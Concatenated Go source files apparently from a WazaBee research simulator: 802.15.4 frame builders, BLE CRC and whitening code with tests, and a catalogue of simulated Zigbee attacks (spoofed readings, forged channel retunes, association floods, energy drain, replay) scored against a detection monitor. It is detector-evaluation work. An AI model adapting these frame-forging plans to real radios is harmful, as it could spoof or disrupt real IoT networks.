	payload := binary.LittleEndian.AppendUint16(nil, superframeSpec)
	payload = append(payload, 0x00, 0x00) // GTS none, no pending addresses
	return &MACFrame{
		Type:    FrameBeacon,
		Seq:     seq,
		SrcMode: AddrShort,
		SrcPAN:  pan,
		SrcAddr: coordAddr,
		Payload: payload,
	}
}

// NewDataFrame builds an intra-PAN data frame between two short addresses.
func NewDataFrame(seq uint8, pan, dest, src uint16, payload []byte, ackRequest bool) *MACFrame {
	return &MACFrame{
		Type:           FrameData,
		AckRequest:     ackRequest,
		PANCompression: true,
		Seq:            seq,
		DestMode:       AddrShort,
		DestPAN:        pan,
		DestAddr:       dest,
		SrcMode:        AddrShort,
		SrcPAN:         pan,
		SrcAddr:        src,
		Payload:        payload,
	}
}

// NewAck builds the immediate acknowledgement for a frame with the given
// sequence number.
func NewAck(seq uint8) *MACFrame {
	return &MACFrame{Type: FrameAck, Seq: seq}
}

// NewAssociationRequest builds the MAC command a device sends to join a
// PAN. capability is the capability-information bitmap of the standard
// (0x8e: allocate address, mains powered, RX on when idle).
func NewAssociationRequest(seq uint8, pan, coordAddr uint16, capability byte) *MACFrame {
	return &MACFrame{
		Type:       FrameCommand,
		AckRequest: true,
		Seq:        seq,
		DestMode:   AddrShort,
		DestPAN:    pan,
		DestAddr:   coordAddr,
		SrcMode:    AddrShort,
		SrcPAN:     BroadcastPAN,
		SrcAddr:    NoShortAddress, // not yet associated
		Payload:    []byte{byte(CmdAssociationRequest), capability},
	}
}

// NewAssociationResponse builds the coordinator's reply assigning a
// short address (0xFFFF with a non-success status).
func NewAssociationResponse(seq uint8, pan, dest uint16, assigned uint16, status byte) *MACFrame {
	payload := []byte{byte(CmdAssociationResponse), byte(assigned), byte(assigned >> 8), status}
	return &MACFrame{
		Type:           FrameCommand,
		PANCompression: true,
		Seq:            seq,
		DestMode:       AddrShort,
		DestPAN:        pan,
		DestAddr:       dest,
		SrcMode:        AddrShort,
		SrcPAN:         pan,
		SrcAddr:        0x0000, // coordinator role address in responses
		Payload:        payload,
	}
}

// ParseAssociationResponse extracts the assigned address and status from
// an association response payload.
func ParseAssociationResponse(payload []byte) (assigned uint16, status byte, err error) {
	if len(payload) != 4 || CommandID(payload[0]) != CmdAssociationResponse {
		return 0, 0, fmt.Errorf("ieee802154: not an association response")
	}
	return uint16(payload[1]) | uint16(payload[2])<<8, payload[3], nil
}
