package bitstream

import (
	"bytes"
	"math/rand"
	"testing"
	"testing/quick"
)

func TestBytesToBitsLSBFirst(t *testing.T) {
	tests := []struct {
		name string
		give []byte
		want string
	}{
		{name: "zero", give: []byte{0x00}, want: "00000000"},
		{name: "one", give: []byte{0x01}, want: "10000000"},
		{name: "preamble55", give: []byte{0x55}, want: "10101010"},
		{name: "preambleAA", give: []byte{0xaa}, want: "01010101"},
		{name: "two bytes", give: []byte{0x0f, 0xf0}, want: "1111000000001111"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := BytesToBits(tt.give).String()
			if got != tt.want {
				t.Errorf("BytesToBits(%x) = %s, want %s", tt.give, got, tt.want)
			}
		})
	}
}

func TestBitsToBytesRoundTrip(t *testing.T) {
	f := func(data []byte) bool {
		got, err := BitsToBytes(BytesToBits(data))
		return err == nil && bytes.Equal(got, data)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestBitsToBytesErrors(t *testing.T) {
	if _, err := BitsToBytes(make(Bits, 7)); err == nil {
		t.Error("expected error for non-multiple-of-8 length")
	}
	if _, err := BitsToBytes(Bits{0, 1, 2, 0, 0, 0, 0, 0}); err == nil {
		t.Error("expected error for non-binary bit value")
	}
}

func TestUint32ToBits(t *testing.T) {
	got := Uint32ToBits(0x8e89bed6) // BLE advertising Access Address
	want := BytesToBits([]byte{0xd6, 0xbe, 0x89, 0x8e})
	if got.String() != want.String() {
		t.Errorf("Uint32ToBits = %s, want %s", got, want)
	}
}

func TestHammingDistance(t *testing.T) {
	tests := []struct {
		name string
		a, b string
		want int
	}{
		{name: "equal", a: "1010", b: "1010", want: 0},
		{name: "one flip", a: "1010", b: "1110", want: 1},
		{name: "all flipped", a: "0000", b: "1111", want: 4},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a, _ := ParseBits(tt.a)
			b, _ := ParseBits(tt.b)
			got, err := HammingDistance(a, b)
			if err != nil {
				t.Fatal(err)
			}
			if got != tt.want {
				t.Errorf("HammingDistance(%s,%s) = %d, want %d", tt.a, tt.b, got, tt.want)
			}
		})
	}
	if _, err := HammingDistance(make(Bits, 3), make(Bits, 4)); err == nil {
		t.Error("expected length-mismatch error")
	}
}

func TestXorInvertClone(t *testing.T) {
	a, _ := ParseBits("1100")
	b, _ := ParseBits("1010")
	got, err := Xor(a, b)
	if err != nil {
		t.Fatal(err)
	}
	if got.String() != "0110" {
		t.Errorf("Xor = %s, want 0110", got)
	}
	if Invert(a).String() != "0011" {
		t.Errorf("Invert = %s, want 0011", Invert(a))
	}
	c := Clone(a)
	c[0] = 0
	if a[0] != 1 {
		t.Error("Clone aliases its input")
	}
	if _, err := Xor(make(Bits, 1), make(Bits, 2)); err == nil {
		t.Error("expected length-mismatch error from Xor")
	}
}

func TestParseBits(t *testing.T) {
	got, err := ParseBits("10 01")
	if err != nil {
		t.Fatal(err)
	}
	if got.String() != "1001" {
		t.Errorf("ParseBits = %s, want 1001", got)
	}
	if _, err := ParseBits("10x1"); err == nil {
		t.Error("expected error for invalid character")
	}
}

func TestWhitenerSelfInverse(t *testing.T) {
	for channel := 0; channel <= 39; channel++ {
		data := make([]byte, 64)
		rnd := rand.New(rand.NewSource(int64(channel)))
		rnd.Read(data)

		once, err := WhitenBytes(channel, data)
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Equal(once, data) {
			t.Fatalf("channel %d: whitening is a no-op", channel)
		}
		twice, err := WhitenBytes(channel, once)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(twice, data) {
			t.Fatalf("channel %d: whitening is not self-inverse", channel)
		}
	}
}

func TestWhitenerPeriod(t *testing.T) {
	// x^7 + x^4 + 1 is primitive, so the whitening sequence must have
	// period 127.
	w, err := NewWhitener(23)
	if err != nil {
		t.Fatal(err)
	}
	seq := make(Bits, 254)
	for i := range seq {
		seq[i] = w.NextBit()
	}
	if seq[:127].String() != seq[127:].String() {
		t.Error("whitening sequence does not repeat with period 127")
	}
	// And it must not repeat with any smaller period dividing 127 (127 is
	// prime, so only period 1 could be smaller).
	allSame := true
	for _, b := range seq[:127] {
		if b != seq[0] {
			allSame = false
			break
		}
	}
	if allSame {
		t.Error("whitening sequence is constant")
	}
}

func TestWhitenerChannelSeed(t *testing.T) {
	// Different channels must produce different whitening sequences
	// (they are shifts of the same m-sequence).
	s8, err := WhitenSequence(8, 32)
	if err != nil {
		t.Fatal(err)
	}
	s9, err := WhitenSequence(9, 32)
	if err != nil {
		t.Fatal(err)
	}
	if s8.String() == s9.String() {
		t.Error("channels 8 and 9 produced identical whitening sequences")
	}
}

func TestWhitenerFirstBits(t *testing.T) {
	// Hand-computed first outputs for channel 37 (seed: pos0=1, pos1..6
	// = 100101): state bits p6..p0 = 1010011. The first output is p6 = 1.
	w, err := NewWhitener(37)
	if err != nil {
		t.Fatal(err)
	}
	if got := w.NextBit(); got != 1 {
		t.Errorf("first whitening bit for channel 37 = %d, want 1", got)
	}
}

func TestNewWhitenerRange(t *testing.T) {
	if _, err := NewWhitener(-1); err == nil {
		t.Error("expected error for channel -1")
	}
	if _, err := NewWhitener(40); err == nil {
		t.Error("expected error for channel 40")
	}
}

func TestFCS16KnownVector(t *testing.T) {
	// CRC-16/KERMIT check value: CRC("123456789") = 0x2189.
	if got := FCS16([]byte("123456789")); got != 0x2189 {
		t.Errorf("FCS16 check = %#04x, want 0x2189", got)
	}
}

func TestFCSAppendCheckRoundTrip(t *testing.T) {
	f := func(payload []byte) bool {
		fcs := FCS16Bytes(FCS16(payload))
		frame := append(append([]byte{}, payload...), fcs[0], fcs[1])
		return CheckFCS(frame)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestCheckFCSRejectsCorruption(t *testing.T) {
	payload := []byte{0x01, 0x02, 0x03, 0x04}
	fcs := FCS16Bytes(FCS16(payload))
	frame := append(append([]byte{}, payload...), fcs[0], fcs[1])
	for i := range frame {
		bad := append([]byte{}, frame...)
		bad[i] ^= 0x10
		if CheckFCS(bad) {
			t.Errorf("corruption at byte %d not detected", i)
		}
	}
	if CheckFCS([]byte{0x01}) {
		t.Error("CheckFCS accepted a frame shorter than the FCS")
	}
}

func TestCRC24Deterministic(t *testing.T) {
	data := []byte{0x40, 0x10, 0x01, 0x02, 0x03}
	a := CRC24(BLEAdvCRCInit, data)
	b := CRC24(BLEAdvCRCInit, data)
	if a != b {
		t.Error("CRC24 is not deterministic")
	}
	if a&0xff000000 != 0 {
		t.Errorf("CRC24 state %#x exceeds 24 bits", a)
	}
}

func TestCRC24DetectsBitflips(t *testing.T) {
	data := make([]byte, 32)
	rnd := rand.New(rand.NewSource(7))
	rnd.Read(data)
	ref := CRC24(BLEAdvCRCInit, data)
	for i := 0; i < len(data)*8; i++ {
		bad := append([]byte{}, data...)
		bad[i/8] ^= 1 << uint(i%8)
		if CRC24(BLEAdvCRCInit, bad) == ref {
			t.Errorf("single bitflip at bit %d not detected", i)
		}
	}
}

func TestCRC24InitMatters(t *testing.T) {
	data := []byte{1, 2, 3}
	if CRC24(BLEAdvCRCInit, data) == CRC24(0x123456, data) {
		t.Error("different CRC presets produced identical CRCs")
	}
}

func TestCRC24Bytes(t *testing.T) {
	got := CRC24Bytes(0x123456)
	want := [3]byte{0x56, 0x34, 0x12}
	if got != want {
		t.Errorf("CRC24Bytes = %v, want %v", got, want)
	}
}

func TestCRC16CCITTBitsKnownVector(t *testing.T) {
	// CRC-16/CCITT-FALSE check value: CRC("123456789") = 0x29B1 with
	// init 0xFFFF, processing bytes MSB first.
	data := []byte("123456789")
	var bits Bits
	for _, b := range data {
		for i := 7; i >= 0; i-- {
			bits = append(bits, (b>>uint(i))&1)
		}
	}
	if got := CRC16CCITTBits(bits, 0xffff); got != 0x29b1 {
		t.Errorf("CRC-16/CCITT-FALSE check = %#04x, want 0x29b1", got)
	}
}

func TestCRC16CCITTBitsOddLength(t *testing.T) {
	// Bit-level CRCs must handle non-byte-aligned input (ESB's 9-bit
	// packet control field).
	bits, _ := ParseBits("110100110")
	a := CRC16CCITTBits(bits, 0xffff)
	bits[8] ^= 1
	b := CRC16CCITTBits(bits, 0xffff)
	if a == b {
		t.Error("flipping the 9th bit did not change the CRC")
	}
}

func TestFCS16Bytes(t *testing.T) {
	got := FCS16Bytes(0xbeef)
	want := [2]byte{0xef, 0xbe}
	if got != want {
		t.Errorf("FCS16Bytes = %v, want %v", got, want)
	}
}
