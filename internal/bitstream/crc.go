package bitstream

// This file implements the two integrity codes used by the simulated
// protocols:
//
//   - the BLE link-layer CRC-24 (polynomial x^24 + x^10 + x^9 + x^6 + x^4 +
//     x^3 + x + 1, preset 0x555555 for advertising PDUs), and
//   - the IEEE 802.15.4 Frame Check Sequence, a CRC-16 with polynomial
//     x^16 + x^12 + x^5 + 1, zero preset, bit-reflected processing (the
//     CRC-16/KERMIT parameterisation).

// BLEAdvCRCInit is the CRC-24 preset used on advertising channels.
const BLEAdvCRCInit uint32 = 0x555555

// blecrcFeedback is the reflected feedback mask of the BLE CRC polynomial
// (taps x^10, x^9, x^6, x^4, x^3, x^1 mapped into a right-shifting 24-bit
// register; the x^24 term appears as the re-inserted top bit).
const blecrcFeedback uint32 = 0x5a6000

// CRC24 computes the BLE link-layer CRC over data with the given preset.
// Bits are consumed LSB first, matching on-air order. The returned value is
// the 24-bit shift-register state; serialise it with CRC24Bytes.
func CRC24(init uint32, data []byte) uint32 {
	state := init & 0xffffff
	for _, b := range data {
		cur := uint32(b)
		for j := 0; j < 8; j++ {
			nextBit := (state ^ cur) & 1
			cur >>= 1
			state >>= 1
			if nextBit == 1 {
				state |= 1 << 23
				state ^= blecrcFeedback
			}
		}
	}
	return state
}

// CRC24Bytes serialises a CRC-24 state into the three bytes appended to a
// BLE PDU, in transmission order.
func CRC24Bytes(crc uint32) [3]byte {
	return [3]byte{byte(crc), byte(crc >> 8), byte(crc >> 16)}
}

// FCS16 computes the IEEE 802.15.4 frame check sequence over data: CRC-16
// with reflected polynomial 0x8408, zero preset, no final XOR.
func FCS16(data []byte) uint16 {
	var crc uint16
	for _, b := range data {
		crc ^= uint16(b)
		for j := 0; j < 8; j++ {
			if crc&1 == 1 {
				crc = (crc >> 1) ^ 0x8408
			} else {
				crc >>= 1
			}
		}
	}
	return crc
}

// FCS16Bytes serialises an FCS into the two bytes appended to a MAC frame,
// least significant byte first as the standard requires.
func FCS16Bytes(fcs uint16) [2]byte {
	return [2]byte{byte(fcs), byte(fcs >> 8)}
}

// CheckFCS verifies that frame (payload followed by a two-byte FCS) has a
// valid frame check sequence.
func CheckFCS(frame []byte) bool {
	if len(frame) < 2 {
		return false
	}
	want := uint16(frame[len(frame)-2]) | uint16(frame[len(frame)-1])<<8
	return FCS16(frame[:len(frame)-2]) == want
}

// CRC16CCITTBits computes the non-reflected CRC-16/CCITT (polynomial
// 0x1021) over a bit sequence, MSB-first per the Enhanced ShockBurst
// convention. ESB needs a bit-level CRC because its packet control field
// is nine bits long, so byte-oriented CRCs cannot cover it.
func CRC16CCITTBits(bits Bits, init uint16) uint16 {
	crc := init
	for _, b := range bits {
		top := byte(crc>>15) & 1
		crc <<= 1
		if top^(b&1) == 1 {
			crc ^= 0x1021
		}
	}
	return crc
}
