// Package bitstream provides the bit-level plumbing shared by the BLE and
// IEEE 802.15.4 physical layers: on-air bit ordering, bit readers/writers,
// Hamming distance, the BLE whitening LFSR and the CRC polynomials of both
// protocols.
//
// Both BLE and 802.15.4 transmit each byte least-significant bit first, so
// every conversion in this package uses LSB-first order unless a function
// name says otherwise.
package bitstream

import "fmt"

// Bits is a sequence of binary symbols in on-air order. Each element is 0 or
// 1; using a byte per bit keeps indexing and Hamming-distance code simple and
// is fast enough for the signal-level simulations in this repository.
type Bits []byte

// BytesToBits expands data into on-air bit order (LSB first within each
// byte).
func BytesToBits(data []byte) Bits {
	bits := make(Bits, 0, len(data)*8)
	for _, b := range data {
		for i := 0; i < 8; i++ {
			bits = append(bits, (b>>uint(i))&1)
		}
	}
	return bits
}

// BitsToBytes packs an on-air bit sequence back into bytes (LSB first). The
// length of bits must be a multiple of 8.
func BitsToBytes(bits Bits) ([]byte, error) {
	if len(bits)%8 != 0 {
		return nil, fmt.Errorf("bitstream: bit count %d is not a multiple of 8", len(bits))
	}
	data := make([]byte, len(bits)/8)
	for i, b := range bits {
		if b > 1 {
			return nil, fmt.Errorf("bitstream: bit %d has non-binary value %d", i, b)
		}
		if b == 1 {
			data[i/8] |= 1 << uint(i%8)
		}
	}
	return data, nil
}

// Uint32ToBits expands a 32-bit word into on-air order (LSB first), as used
// for the BLE Access Address.
func Uint32ToBits(v uint32) Bits {
	bits := make(Bits, 32)
	for i := 0; i < 32; i++ {
		bits[i] = byte((v >> uint(i)) & 1)
	}
	return bits
}

// HammingDistance counts positions at which a and b differ. The slices must
// have equal length.
func HammingDistance(a, b Bits) (int, error) {
	if len(a) != len(b) {
		return 0, fmt.Errorf("bitstream: length mismatch %d != %d", len(a), len(b))
	}
	d := 0
	for i := range a {
		if a[i] != b[i] {
			d++
		}
	}
	return d, nil
}

// Xor returns the element-wise exclusive OR of a and b, which must have
// equal length.
func Xor(a, b Bits) (Bits, error) {
	if len(a) != len(b) {
		return nil, fmt.Errorf("bitstream: length mismatch %d != %d", len(a), len(b))
	}
	out := make(Bits, len(a))
	for i := range a {
		out[i] = a[i] ^ b[i]
	}
	return out, nil
}

// Invert returns a copy of bits with every bit flipped.
func Invert(bits Bits) Bits {
	out := make(Bits, len(bits))
	for i, b := range bits {
		out[i] = b ^ 1
	}
	return out
}

// Clone returns an independent copy of bits.
func Clone(bits Bits) Bits {
	out := make(Bits, len(bits))
	copy(out, bits)
	return out
}

// String renders the bits as a compact "0"/"1" string, useful in tests and
// error messages.
func (b Bits) String() string {
	buf := make([]byte, len(b))
	for i, v := range b {
		buf[i] = '0' + v
	}
	return string(buf)
}

// ParseBits converts a "0"/"1" string (spaces allowed as visual separators)
// into Bits.
func ParseBits(s string) (Bits, error) {
	var bits Bits
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '0':
			bits = append(bits, 0)
		case '1':
			bits = append(bits, 1)
		case ' ':
			// Separator, skip.
		default:
			return nil, fmt.Errorf("bitstream: invalid character %q at offset %d", s[i], i)
		}
	}
	return bits, nil
}
