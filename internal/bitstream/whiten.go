package bitstream

import "fmt"

// Whitener implements the BLE data whitening linear feedback shift register
// (Bluetooth Core Specification v5.x, Vol 6 Part B §3.2).
//
// The LFSR has polynomial x^7 + x^4 + 1 and is seeded from the channel
// index: position 0 is set to one and positions 1..6 hold the channel index,
// most significant bit in position 1. Whitening XORs the LFSR output with
// the on-air bits of the PDU and CRC; because it is a pure XOR stream the
// same operation both whitens and de-whitens, which is the property the
// WazaBee smartphone scenario exploits (pre-apply the stream so the radio's
// own whitening cancels out).
type Whitener struct {
	// state holds LFSR positions 0..6 in the low seven bits: bit i of
	// state is position i of the register in the specification figure.
	state uint8
}

// NewWhitener returns a whitener seeded for the given BLE channel index
// (0..39).
func NewWhitener(channel int) (*Whitener, error) {
	if channel < 0 || channel > 39 {
		return nil, fmt.Errorf("bitstream: BLE channel %d out of range [0,39]", channel)
	}
	w := &Whitener{}
	w.Reset(channel)
	return w, nil
}

// Reset re-seeds the register for the given channel index. The channel is
// assumed valid (callers go through NewWhitener for validation).
func (w *Whitener) Reset(channel int) {
	// Position 0 = 1, positions 1..6 = channel bits 5..0 (MSB first).
	state := uint8(1)
	for i := 0; i < 6; i++ {
		bit := uint8(channel>>(5-i)) & 1
		state |= bit << uint(i+1)
	}
	w.state = state
}

// NextBit advances the LFSR one step and returns the whitening bit.
func (w *Whitener) NextBit() byte {
	out := (w.state >> 6) & 1 // position 6 is the output
	// Shift positions 0..5 into 1..6, feed output back into position 0
	// and XOR it into position 4 (x^7 + x^4 + 1).
	w.state = (w.state << 1) & 0x7f
	w.state |= out
	w.state ^= out << 4
	return out
}

// Apply XORs the whitening stream over bits in place and returns bits for
// convenience. Calling Apply twice with identically seeded whiteners
// restores the original data.
func (w *Whitener) Apply(bits Bits) Bits {
	for i := range bits {
		bits[i] ^= w.NextBit()
	}
	return bits
}

// WhitenBytes whitens data (interpreted LSB-first per byte, as transmitted)
// for the given channel and returns a new slice.
func WhitenBytes(channel int, data []byte) ([]byte, error) {
	w, err := NewWhitener(channel)
	if err != nil {
		return nil, err
	}
	bits := BytesToBits(data)
	w.Apply(bits)
	return BitsToBytes(bits)
}

// WhitenSequence returns the first n whitening bits for a channel, useful
// for constructing payloads whose whitened form equals a target bit string.
func WhitenSequence(channel, n int) (Bits, error) {
	w, err := NewWhitener(channel)
	if err != nil {
		return nil, err
	}
	bits := make(Bits, n)
	for i := range bits {
		bits[i] = w.NextBit()
	}
	return bits, nil
}
