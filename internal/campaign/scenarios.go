package campaign

import (
	"time"

	"wazabee/internal/attack"
	"wazabee/internal/ieee802154"
	"wazabee/internal/zigbee/sim"
)

// scenario is one catalogue entry's definition. All seven share the
// instance machinery; what differs is the attack plan installed on the
// scheduler and a few scoring switches.
type scenario struct {
	name string
	desc string
	// attack is false only for the benign baseline.
	attack bool
	// bleFraming marks the attacker's frames as carried inside BLE
	// advertising packets (the scenario A path) — detectable by the
	// framing detector. Tracker-style attacks (ESB diversion) leave no
	// such framing; only the modulation fingerprint can catch them.
	bleFraming bool
	// energyTwin enables the same-seed attack-free twin whose energy
	// ledger the drain score is measured against.
	energyTwin bool
	// attackStart is when the attacker keys up (0 selects
	// DefaultAttackStart).
	attackStart time.Duration
	// plan installs the attack schedule on the instance's event loop.
	plan func(*instance)
}

func (s *scenario) Name() string        { return s.name }
func (s *scenario) Description() string { return s.desc }
func (s *scenario) Attack() bool        { return s.attack }

// Setup implements Scenario.
func (s *scenario) Setup(opts Options) (Instance, error) {
	return newInstance(s, opts)
}

// every runs fn at start and then every interval until the instance's
// duration — the shape of all sustained attack plans.
func every(it *instance, start, interval time.Duration, fn func()) {
	sched := it.nw.Scheduler()
	var fire func()
	fire = func() {
		if sched.Now() >= it.duration {
			return
		}
		fn()
		sched.After(interval, fire)
	}
	sched.At(start, fire)
}

// catalogue is the scenario population, in stable report order.
var catalogue = []scenario{
	{
		name:   "benign-baseline",
		desc:   "attack-free mesh traffic; every alert is a false positive",
		attack: false,
	},
	{
		name:        "scenario-a-injection",
		desc:        "paper scenario A: spoofed sensor readings injected from BLE advertising frames",
		attack:      true,
		bleFraming:  true,
		attackStart: DefaultAttackStart,
		plan: func(it *instance) {
			var seq uint8
			var reading uint16 = 0x0100
			every(it, it.attackStart, 500*time.Millisecond, func() {
				coord := it.nw.Node(0)
				victim := it.nw.Node(1)
				seq++
				reading++
				frame := ieee802154.NewDataFrame(seq, coord.PAN, coord.Short, victim.Short,
					[]byte{0x77, byte(reading >> 8), byte(reading), 0}, true)
				it.transmit(0, frame, true)
			})
		},
	},
	{
		name:        "channel-migration",
		desc:        "paper scenario B: forged remote AT CH retunes detach every device from the PAN",
		attack:      true,
		attackStart: DefaultAttackStart,
		plan: func(it *instance) {
			sched := it.nw.Scheduler()
			var frameID byte
			for dev := 1; dev < it.opts.Devices+1; dev++ {
				dev := dev
				attempts := 0
				var fire func()
				fire = func() {
					if sched.Now() >= it.duration || attempts >= 6 {
						return
					}
					ni := it.nw.Node(dev)
					if !ni.Joined {
						return // migrated (or never associated): nothing left to move
					}
					attempts++
					frameID++
					coord := it.nw.Node(0)
					frame := ieee802154.NewDataFrame(frameID, ni.PAN, ni.Short, coord.Short,
						[]byte{0x17, frameID, 'C', 'H', 26}, true)
					it.transmit(dev, frame, true)
					sched.After(400*time.Millisecond, fire)
				}
				sched.At(it.attackStart+time.Duration(dev-1)*250*time.Millisecond, fire)
			}
		},
	},
	{
		name:        "association-flood",
		desc:        "association requests hammer the coordinator through the join window",
		attack:      true,
		attackStart: 1500 * time.Millisecond,
		plan: func(it *instance) {
			var seq uint8
			every(it, it.attackStart, 150*time.Millisecond, func() {
				coord := it.nw.Node(0)
				seq++
				frame := ieee802154.NewAssociationRequest(seq, coord.PAN, coord.Short, 0x8e)
				it.transmit(0, frame, true)
			})
		},
	},
	{
		name:        "energy-depletion",
		desc:        "forced-retransmission flood: secured-looking garbage drains one device's radio budget",
		attack:      true,
		energyTwin:  true,
		attackStart: DefaultAttackStart,
		plan: func(it *instance) {
			var seq uint8
			i := 0
			every(it, it.attackStart, 60*time.Millisecond, func() {
				coord := it.nw.Node(0)
				victim := it.nw.Node(1)
				seq++
				i++
				frame := ieee802154.NewDataFrame(seq, victim.PAN, victim.Short, coord.Short,
					attack.DepletionPayload(i), true)
				frame.Security = true
				it.transmit(1, frame, true)
			})
		},
	},
	{
		name:        "sleep-deprivation",
		desc:        "round-robin ack-required polling keeps every device's radio awake",
		attack:      true,
		energyTwin:  true,
		attackStart: DefaultAttackStart,
		plan: func(it *instance) {
			var seq uint8
			target := 0
			every(it, it.attackStart, 120*time.Millisecond, func() {
				coord := it.nw.Node(0)
				dev := 1 + target%it.opts.Devices
				target++
				ni := it.nw.Node(dev)
				seq++
				// A reading-shaped payload: the device acknowledges it
				// and forwards it to its parent, which acknowledges in
				// turn — each poll costs the victims three transmissions.
				frame := ieee802154.NewDataFrame(seq, ni.PAN, ni.Short, coord.Short,
					[]byte{0x77, 0, byte(seq), 0}, true)
				it.transmit(dev, frame, true)
			})
		},
	},
	{
		name:        "replay-impersonation",
		desc:        "a captured legitimate reading is replayed verbatim, impersonating the device",
		attack:      true,
		attackStart: DefaultAttackStart,
		plan: func(it *instance) {
			// The capture side: remember the first clean data frame a
			// real device sent (the tap below runs alongside the
			// monitor's).
			it.nw.Tap(sim.DefaultChannel, func(fc sim.FrameCapture) {
				if it.replayPSDU == nil && !fc.Collided && fc.Src > 0 && fc.Kind == "data" {
					it.replayPSDU = append([]byte(nil), fc.PSDU...)
				}
			})
			every(it, it.attackStart, 500*time.Millisecond, func() {
				if it.replayPSDU == nil {
					return // nothing captured yet; try again next period
				}
				frame, err := ieee802154.ParseMACFrame(it.replayPSDU)
				if err != nil {
					if it.planErr == nil {
						it.planErr = err
					}
					return
				}
				it.transmit(0, frame, frame.AckRequest)
			})
		},
	},
}
