package campaign

import (
	"bytes"
	"context"
	"encoding/json"
	"strings"
	"testing"
)

// runScenario executes one catalogue scenario and returns its Outcome.
func runScenario(t *testing.T, name string, opts Options) Outcome {
	t.Helper()
	sc, err := ByName(name)
	if err != nil {
		t.Fatal(err)
	}
	inst, err := sc.Setup(opts)
	if err != nil {
		t.Fatalf("%s: setup: %v", name, err)
	}
	if err := inst.Run(); err != nil {
		t.Fatalf("%s: run: %v", name, err)
	}
	return inst.Score()
}

// goldenSeed1 pins every scenario's full Outcome at seed 1 and default
// options. A diff here means the campaign's deterministic contract (or
// the mesh, monitor or energy model underneath it) changed — update the
// strings only for an intended behavior change.
var goldenSeed1 = map[string]string{
	"benign-baseline":      `{"scenario":"benign-baseline","seed":1,"detected":false,"detection_latency_ns":-1,"fingerprint_detected":false,"framing_detected":false,"alert_frames":0,"frames_injected":0,"frames_accepted":0,"nodes_disrupted":0,"channel_migrations":0,"readings":57,"energy_microjoules":3104770.1184,"energy_drained_microjoules":0}`,
	"scenario-a-injection": `{"scenario":"scenario-a-injection","seed":1,"detected":true,"detection_latency_ns":0,"first_alert":"modulation-fingerprint","fingerprint_detected":true,"framing_detected":true,"alert_frames":40,"alerts":{"ble-framing":26,"modulation-fingerprint":40},"frames_injected":40,"frames_accepted":40,"nodes_disrupted":0,"channel_migrations":0,"readings":97,"energy_microjoules":3104701.7664,"energy_drained_microjoules":0}`,
	"channel-migration":    `{"scenario":"channel-migration","seed":1,"detected":true,"detection_latency_ns":0,"first_alert":"modulation-fingerprint","fingerprint_detected":true,"framing_detected":false,"alert_frames":4,"alerts":{"modulation-fingerprint":4},"frames_injected":4,"frames_accepted":4,"nodes_disrupted":4,"channel_migrations":4,"readings":17,"energy_microjoules":3104879.4816000005,"energy_drained_microjoules":0}`,
	"association-flood":    `{"scenario":"association-flood","seed":1,"detected":true,"detection_latency_ns":0,"first_alert":"modulation-fingerprint","fingerprint_detected":true,"framing_detected":false,"alert_frames":189,"alerts":{"modulation-fingerprint":189},"frames_injected":190,"frames_accepted":190,"nodes_disrupted":0,"channel_migrations":0,"readings":57,"energy_microjoules":3103438.5984,"energy_drained_microjoules":0}`,
	"energy-depletion":     `{"scenario":"energy-depletion","seed":1,"detected":true,"detection_latency_ns":0,"first_alert":"modulation-fingerprint","fingerprint_detected":true,"framing_detected":false,"alert_frames":330,"alerts":{"modulation-fingerprint":330},"frames_injected":334,"frames_accepted":330,"nodes_disrupted":0,"channel_migrations":0,"readings":58,"energy_microjoules":3104199.2064,"energy_drained_microjoules":10905.830399999999}`,
	"sleep-deprivation":    `{"scenario":"sleep-deprivation","seed":1,"detected":true,"detection_latency_ns":0,"first_alert":"modulation-fingerprint","fingerprint_detected":true,"framing_detected":false,"alert_frames":165,"alerts":{"modulation-fingerprint":165},"frames_injected":167,"frames_accepted":165,"nodes_disrupted":0,"channel_migrations":0,"readings":222,"energy_microjoules":3103984.9728000006,"energy_drained_microjoules":12139.603200000003}`,
	"replay-impersonation": `{"scenario":"replay-impersonation","seed":1,"detected":true,"detection_latency_ns":0,"first_alert":"modulation-fingerprint","fingerprint_detected":true,"framing_detected":false,"alert_frames":40,"alerts":{"modulation-fingerprint":40},"frames_injected":40,"frames_accepted":40,"nodes_disrupted":0,"channel_migrations":0,"readings":97,"energy_microjoules":3104701.7664,"energy_drained_microjoules":0}`,
}

func TestScenarioGoldenOutcomes(t *testing.T) {
	for _, sc := range Catalogue() {
		sc := sc
		t.Run(sc.Name(), func(t *testing.T) {
			want, ok := goldenSeed1[sc.Name()]
			if !ok {
				t.Fatalf("no golden pinned for %s — add it", sc.Name())
			}
			out := runScenario(t, sc.Name(), Options{Seed: 1})
			got, err := json.Marshal(out)
			if err != nil {
				t.Fatal(err)
			}
			if string(got) != want {
				t.Errorf("outcome drifted from golden\n got: %s\nwant: %s", got, want)
			}
		})
	}
	if len(goldenSeed1) != len(Catalogue()) {
		t.Errorf("golden table has %d entries, catalogue %d", len(goldenSeed1), len(Catalogue()))
	}
}

func TestScenarioSameSeedByteIdentity(t *testing.T) {
	for _, sc := range Catalogue() {
		sc := sc
		t.Run(sc.Name(), func(t *testing.T) {
			a, err := json.Marshal(runScenario(t, sc.Name(), Options{Seed: 99}))
			if err != nil {
				t.Fatal(err)
			}
			b, err := json.Marshal(runScenario(t, sc.Name(), Options{Seed: 99}))
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(a, b) {
				t.Errorf("same seed, different outcomes:\n a: %s\n b: %s", a, b)
			}
		})
	}
}

func TestScenarioSemantics(t *testing.T) {
	benign := runScenario(t, "benign-baseline", Options{Seed: 3})
	if benign.Detected || benign.FramesInjected != 0 {
		t.Errorf("benign baseline detected or injecting: %+v", benign)
	}

	injection := runScenario(t, "scenario-a-injection", Options{Seed: 3})
	if !injection.FramingDetected {
		t.Error("scenario A left no BLE framing signature")
	}
	if injection.Readings <= benign.Readings {
		t.Errorf("spoofed readings not accepted: attack %d <= benign %d",
			injection.Readings, benign.Readings)
	}

	migration := runScenario(t, "channel-migration", Options{Seed: 3})
	if migration.ChannelMigrations == 0 || migration.NodesDisrupted == 0 {
